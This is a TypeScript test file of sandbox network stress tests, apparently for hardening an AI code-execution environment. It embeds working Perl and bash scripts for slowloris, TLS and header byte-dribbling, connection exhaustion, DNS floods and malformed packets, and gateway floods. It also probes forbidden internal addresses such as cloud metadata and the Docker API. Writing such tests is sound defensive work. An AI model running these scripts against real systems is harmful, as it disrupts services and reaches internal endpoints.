import { type Attack, inSandbox } from '../attack.js';
import { perl } from './perl.js';

/** Any name: what is attacked is the relay, which looks at a connection before it resolves or dials. */
const CONNECT = String.raw`
sub connected { my ($port, $address) = @_; socket(my $s, PF_INET, SOCK_STREAM, 0) or return;
  connect($s, pack_sockaddr_in($port, inet_aton($address // $main::target))) or return; return $s }
our $target = (gethostbyname('example.com'))[4]; $target = $target ? inet_ntoa($target) : '127.1.2.3';
$SIG{PIPE} = 'IGNORE';
`;

/** A turn that came to its end, or was ended for its time. */
const ENDED = /^(exit \d+|error: .*(time|connections|memory))/;

/** Addresses that no sandbox may reach, whatever listens there. */
const FORBIDDEN = [
  '169.254.169.254:80',
  '10.0.0.1:80',
  '192.168.0.1:80',
  '172.17.0.1:2375',
  '127.0.0.1:5432',
  '127.0.0.1:8080',
];

export const NETWORK_ATTACKS: readonly Attack[] = [
  inSandbox({
    name: 'tls-tiny-records',
    what: 'TLS greetings in records of one byte, on 30 connections at a time',
    prompts: [
      perl(`${CONNECT} my $end = time + {{14}}; my $hello = "\\x01\\x00\\x3f\\xf8" . "\\x03\\x03" . ("r" x 16370);
while (time < $end) { my @all = grep { defined } map { connected(443) } 1..30;
for my $byte (split //, $hello) { my $record = "\\x16\\x03\\x01\\x00\\x01$byte"; for (@all) { syswrite($_, $record) } last if time >= $end } } print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'tls-large-then-tiny',
    what: 'TLS greetings of the greatest size whose last bytes come one by one',
    prompts: [
      perl(`${CONNECT} my $end = time + {{14}}; while (time < $end) { my @all = grep { defined } map { connected(443) } 1..20;
my $hello = "\\x16\\x03\\x01\\x3f\\xff\\x01\\x00\\xff\\xff\\x03\\x03" . ("r" x 15000); for (@all) { syswrite($_, $hello) }
for (1..500) { for (@all) { syswrite($_, 'r') } last if time >= $end } } print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'slowloris-relay',
    what: '400 connections that send a header of a request byte by byte',
    prompts: [
      perl(`${CONNECT} my @all = grep { defined } map { connected(80) } 1..400; print scalar(@all), " connections\\n";
syswrite($_, "GET / HTTP/1.1\\r\\n") for @all; for (1..{{12}}) { syswrite($_, 'X-A: ' . 'b' x 10) for @all; sleep 1 } print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'header-in-bytes',
    what: 'the head of a request in 60 KiB of single bytes, on 20 connections',
    prompts: [
      perl(`${CONNECT} my $end = time + {{12}}; while (time < $end) { my @all = grep { defined } map { my $s = connected(80); setsockopt($s, 6, 1, 1) if $s; $s } 1..20;
syswrite($_, "GET / HTTP/1.1\\r\\n") for @all; for (1..60000) { for (@all) { syswrite($_, 'a') } last if time >= $end } } print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'many-connections',
    what: 'as many connections as it can get, in several processes',
    prompts: [
      perl(`${CONNECT} for (1..8) { my $pid = fork // next; next if $pid; my @all; for (1..3000) { my $s = connected((80, 443, 22)[$_ % 3]) or last; push @all, $s } print scalar(@all), " connections: $!\\n"; sleep 5; POSIX::_exit(0) }
1 while wait != -1; print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'connect-and-leave',
    what: 'connections that are made and reset as fast as it can, for 12 seconds',
    prompts: [
      perl(
        `${CONNECT} my $end = time + {{12}}; my $count = 0; while (time < $end) { my $s = connected(443) or next; setsockopt($s, SOL_SOCKET, SO_LINGER, pack('ii', 1, 0)); close $s; $count++ } print "$count connections, over\\n";`,
      ),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'dns-flood',
    what: 'questions for names that nobody has, as fast as it can, for 12 seconds',
    prompts: [
      perl(`socket(my $s, PF_INET, SOCK_DGRAM, 0) or die $!; my $to = pack_sockaddr_in(53, inet_aton('127.0.0.53')); my $end = time + {{12}}; my $count = 0;
while (time < $end) { for (1..50) { my $name = join '', map { chr(97 + rand 26) } 1..20; my $labels = join '', map { chr(length $_) . $_ } $name, 'example', 'com';
send($s, pack('n6', $count++ & 0xffff, 0x0100, 1, 0, 0, 0) . $labels . "\\0" . pack('n2', 1, 1), 0, $to) } } print "$count questions, over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'dns-nonsense',
    what: 'questions that no parser expects: pointers to themselves, many names, no end',
    prompts: [
      perl(`socket(my $s, PF_INET, SOCK_DGRAM, 0) or die $!; my $to = pack_sockaddr_in(53, inet_aton('127.0.0.53')); my $end = time + {{5}};
while (time < $end) { for my $body ("\\xc0\\x0c" . pack('n2', 1, 1), "\\x3f" . 'a' x 63, ("\\x01a" x 200) . "\\0" . pack('n2', 255, 255), join('', map { chr(rand 256) } 1..300), '', "\\x00")
{ send($s, pack('n6', rand 65536, rand 65536, 1 + int rand 65535, int rand 65536, 0, 0) . $body, 0, $to); send($s, substr(pack('n6', 1, 256, 1, 0, 0, 0), 0, int rand 13), 0, $to) } } 
my $long = connect_tcp(); sub connect_tcp { for (1..200) { socket(my $t, PF_INET, SOCK_STREAM, 0); connect($t, $to) and syswrite($t, "\\xff\\xff" . 'z' x 70000); push @main::kept, $t } } print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'dead-names',
    what: '300 connections to names whose servers do not answer',
    prompts: [
      perl(`for my $batch (1..10) { for (1..30) { my $pid = fork // next; next if $pid; my $name = join('', map { chr(97 + rand 26) } 1..12) . '.example.net'; my $host = gethostbyname($name);
if ($host) { socket(my $s, PF_INET, SOCK_STREAM, 0); alarm 4; connect($s, pack_sockaddr_in(443, $host)) and syswrite($s, "\\x16\\x03\\x01\\x02\\x00\\x01"); sleep 1 } POSIX::_exit(0) } 1 while wait != -1 } print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'gateway-flood',
    what: 'requests with keys that are none to the gateway, on 40 connections, for 12 seconds',
    prompts: [
      perl(`${CONNECT} my $end = time + {{12}}; my $count = 0; my $request = "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nX-Api-Key: sk-ant-api03-" . ("A" x 900) . "\\r\\nContent-Length: 2\\r\\n\\r\\n{}";
while (time < $end) { my @all = grep { defined } map { connected(80, '127.0.0.1') } 1..40; for (1..20) { syswrite($_, $request) && $count++ for @all } close $_ for @all } print "$count requests, over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'gateway-bodies',
    what: 'requests to the gateway with heads and bodies that never end, on 60 connections',
    prompts: [
      perl(`${CONNECT} my $end = time + {{12}}; my @all = grep { defined } map { connected(80, '127.0.0.1') } 1..60; my $n = 0;
for (@all) { syswrite($_, $n++ % 2 ? "POST /openai/v1/responses HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" : "GET /git/https:x/ HTTP/1.1\\r\\n"); $_->blocking(0) if $_->can('blocking') }
my $i = 0; while (time < $end) { for (@all) { syswrite($_, $i++ % 2 ? "10000\\r\\n" . ('x' x 65536) . "\\r\\n" : "X-$i: " . ('y' x 60000) . "\\r\\n") } select(undef, undef, undef, 0.01) } print "over\\n";`),
    ],
    expected: ENDED,
  }),
  inSandbox({
    name: 'forbidden-addresses',
    what: 'addresses of the host, the service, its database, private networks and metadata',
    prompts: [
      `for a in ${FORBIDDEN.join(' ')}; do timeout 2 bash -c "exec 3<>/dev/tcp/\${a%:*}/\${a#*:}; printf 'GET / HTTP/1.0\\r\\nHost: \${a%:*}\\r\\n\\r\\n' >&3; head -c 5 <&3 | grep -q ." 2>/dev/null && echo "BREACH answers: $a"; done; echo none answers`,
    ],
    expected: /^exit 0 .*none answers/,
  }),
  inSandbox({
    name: 'limited-network',
    what: 'names beside the allowed ones, and an allowed name in front of another request',
    environment: { networking: { type: 'limited', allowed_hosts: ['allowed.example.com'] } },
    prompts: [
      perl(`for my $name (qw(example.com allowed.example.com.evil.test evil-allowed.example.com ALLOWED.example.org localhost 127.0.0.1.nip.io)) {
my $host = gethostbyname($name); next if !$host || inet_ntoa($host) =~ /^127\\./ && $name eq 'localhost'; print "BREACH resolves $name\\n" } print "none resolves\\n";`),
    ],
    expected: /^exit 0 .*none resolves/,
  }),
];
